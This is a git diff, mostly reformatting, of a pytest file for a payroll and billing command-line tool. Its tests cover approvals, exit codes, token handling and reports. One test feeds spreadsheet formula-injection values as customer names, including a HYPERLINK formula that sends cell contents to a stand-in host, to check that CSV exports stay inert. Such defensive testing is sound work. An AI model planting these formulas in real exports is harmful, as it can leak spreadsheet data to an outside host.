@@ -11,15 +11,22 @@ from pathlib import Path
 import pytest
 from django.db import connections, transaction
 from lxml import html
+from tests.cli.conftest import Cli, Ended
+from tests.firm import PAY_DATE, Firm, Temp, TestClient, hours_file, set_up
 
 from engineroom.billing.models import Invoice
 from engineroom.ledger import selectors as ledger
 from engineroom.payroll import selectors as payroll
-from tests.cli.conftest import Cli, Ended
-from tests.firm import PAY_DATE, Firm, Temp, TestClient, hours_file, set_up
 
 TEMPS = [
-    Temp("T1", "=HYPERLINK(1)", hours=("9", "9", "9", "9", "9", "4"), pension="net_pay", loan="2", pay_rate="19.00"),
+    Temp(
+        "T1",
+        "=HYPERLINK(1)",
+        hours=("9", "9", "9", "9", "9", "4"),
+        pension="net_pay",
+        loan="2",
+        pay_rate="19.00",
+    ),
     Temp("T2", "Al Smith", customer="BETA", status="disputed"),
     Temp("T3", "Bo Jones", customer="BETA", pension="salary_sacrifice"),
 ]
@@ -35,7 +42,14 @@ def ready(staffed: TestClient) -> TestClient:
 def payday(cli: Cli, client: TestClient, *more: object, who: str = "specialist") -> Ended:
     hours = client.folder / "hours.csv"
     return cli(
-        "payday", client.code, "--pay-date", PAY_DATE, "--timesheets", hours, *more, who=client.staff[who].email
+        "payday",
+        client.code,
+        "--pay-date",
+        PAY_DATE,
+        "--timesheets",
+        hours,
+        *more,
+        who=client.staff[who].email,
     )
 
 
@@ -63,7 +77,10 @@ def test_payday_stops_where_another_person_must_act_and_prints_what_they_type(
     stopped = payday(cli, ready)
     assert stopped.code == 3
     assert "taken before, nothing done" in stopped.out
-    assert f"  engineroom --as {mail['checker']} release {ready.code} --pay-date {PAY_DATE}" in stopped.out.splitlines()
+    assert (
+        f"  engineroom --as {mail['checker']} release {ready.code} --pay-date {PAY_DATE}"
+        in stopped.out.splitlines()
+    )
 
     assert cli("release", ready.code, "--pay-date", PAY_DATE, who=mail["lead"]).code == 1  # who approved
     assert cli("release", ready.code, "--pay-date", PAY_DATE, who=mail["checker"]).code == 0
@@ -130,13 +147,20 @@ def test_one_identity_never_approves_its_own_work(cli: Cli, ready: TestClient, m
 
 def test_exit_codes_say_what_kind_of_no_it_was(cli: Cli, ready: TestClient, mail: dict[str, str]) -> None:
     specialist = mail["specialist"]
-    bad = ready.file("bad.csv", ("assignment", "payroll_number", "date", "hours"), [("X", "T1", "2026-11-16", "8")])
+    bad = ready.file(
+        "bad.csv", ("assignment", "payroll_number", "date", "hours"), [("X", "T1", "2026-11-16", "8")]
+    )
     assert cli("clients", "list", who=specialist).code == 0
     assert cli("ledger", "verify", "NOBODY", who=specialist).code == 1
     refused = cli("import", ready.code, "timesheets", bad, who=specialist)
     assert refused.code == 2
     assert "bad.csv, row 2, assignment" in refused.out
-    assert cli("import", ready.code, "timesheets", bad, "--preview", who=specialist).out.count("there is no assignment") == 1
+    assert (
+        cli("import", ready.code, "timesheets", bad, "--preview", who=specialist).out.count(
+            "there is no assignment"
+        )
+        == 1
+    )
     assert cli("import", ready.code, "nonsense", bad, who=specialist).code == 1
     assert cli("payday", who=specialist).code == 2
     assert payday(cli, ready).code == 3
@@ -169,12 +193,25 @@ def test_a_statement_is_the_bookkeepers_to_clear(cli: Cli, ready: TestClient, ma
     ("who", "token", "message"),
     [
         (None, None, "Say who you are: engineroom --as EMAIL COMMAND. Tokens on this computer: "),
-        ("nobody@firm.example", None, "An admin types `engineroom --as ADMIN token issue nobody@firm.example`"),
-        ("nobody@firm.example", "er_wrong", "the token in ENGINEROOM_TOKEN is unknown, ended, or not nobody@firm.example's"),
+        (
+            "nobody@firm.example",
+            None,
+            "An admin types `engineroom --as ADMIN token issue nobody@firm.example`",
+        ),
+        (
+            "nobody@firm.example",
+            "er_wrong",
+            "the token in ENGINEROOM_TOKEN is unknown, ended, or not nobody@firm.example's",
+        ),
     ],
 )
 def test_without_a_token_the_message_says_what_to_do(
-    cli: Cli, staffed: TestClient, monkeypatch: pytest.MonkeyPatch, who: str | None, token: str | None, message: str
+    cli: Cli,
+    staffed: TestClient,
+    monkeypatch: pytest.MonkeyPatch,
+    who: str | None,
+    token: str | None,
+    message: str,
 ) -> None:
     if token:
         monkeypatch.setenv("ENGINEROOM_TOKEN", token)
@@ -183,7 +220,9 @@ def test_without_a_token_the_message_says_what_to_do(
     assert message in refused.err
 
 
-def test_a_token_file_that_others_can_read_is_not_used(cli: Cli, staffed: TestClient, mail: dict[str, str]) -> None:
+def test_a_token_file_that_others_can_read_is_not_used(
+    cli: Cli, staffed: TestClient, mail: dict[str, str]
+) -> None:
     from engineroom.cli.ground import token_path
 
     path = token_path(mail["lead"])
@@ -233,7 +272,9 @@ def pennies(text: str) -> int:
     return int(text.replace(".", "")) if text else 0
 
 
-def test_nothing_in_an_exported_csv_is_a_formula(cli: Cli, paid: tuple[TestClient, Path], tmp_path: Path) -> None:
+def test_nothing_in_an_exported_csv_is_a_formula(
+    cli: Cli, paid: tuple[TestClient, Path], tmp_path: Path
+) -> None:
     """Customers with hostile names: a spreadsheet shows them and runs nothing."""
     client, _ = paid
     names = {"ACME": '=HYPERLINK("http://x.example?"&A1)', "BETA": "+1-2 @SUM(A1)"}
@@ -264,7 +305,10 @@ def test_the_report_says_what_the_ledger_says(paid: tuple[TestClient, Path]) -> 
         run = payroll.run_of(PAY_DATE)
         assert run is not None
         slips = {s.payroll_number: s.figures for s in payroll.payslips(run)}
-        sales = {i.customer.name: i.net for i in Invoice.objects.filter(client_id=client.id).select_related("customer")}
+        sales = {
+            i.customer.name: i.net
+            for i in Invoice.objects.filter(client_id=client.id).select_related("customer")
+        }
     assert [row[0] for row in found["people"]] == sorted(slips)
     for row in found["people"]:
         gross, *deducted, net = [pennies_of(cell) for cell in row[3:9]]
@@ -272,7 +316,9 @@ def test_the_report_says_what_the_ledger_says(paid: tuple[TestClient, Path]) -> 
         assert gross == slips[row[0]]["gross"]
     assert {row[0]: pennies_of(row[2]) for row in found["margin"]} == sales
     assert {row[0]: pennies_of(row[3]) for row in found["margin"]} == {"ACME Ltd": 0, "BETA Ltd": 40 * 2100}
-    assert [(row[0], row[1], row[5]) for row in found["held"]] == [("BETA Ltd", "T2 Al Smith", "disputed")] * 5
+    assert [(row[0], row[1], row[5]) for row in found["held"]] == [
+        ("BETA Ltd", "T2 Al Smith", "disputed")
+    ] * 5
     assert "Not explained" not in path.read_text(encoding="utf-8")
 
 
@@ -281,10 +327,12 @@ def pennies_of(text: str) -> int:
     return int(digits) if digits else 0
 
 
-def test_held_hours_are_ended_on_the_command_line(cli: Cli, paid: tuple[TestClient, Path], mail: dict[str, str]) -> None:
+def test_held_hours_are_ended_on_the_command_line(
+    cli: Cli, paid: tuple[TestClient, Path], mail: dict[str, str]
+) -> None:
     client, _ = paid
     ended = cli(
-        "billing", "end-hold", client.code, "T2@2026-11-16", "--outcome", "written_off", "--reason", "no sheet",
+        "billing", "end-hold", client.code, "T2@2026-11-16", "--outcome", "written_off", "--reason", "lost",
         who=mail["specialist"],
     )  # fmt: skip
     assert (ended.code, ended.out.strip()) == (0, "5 charges of 840.00 are now written off")
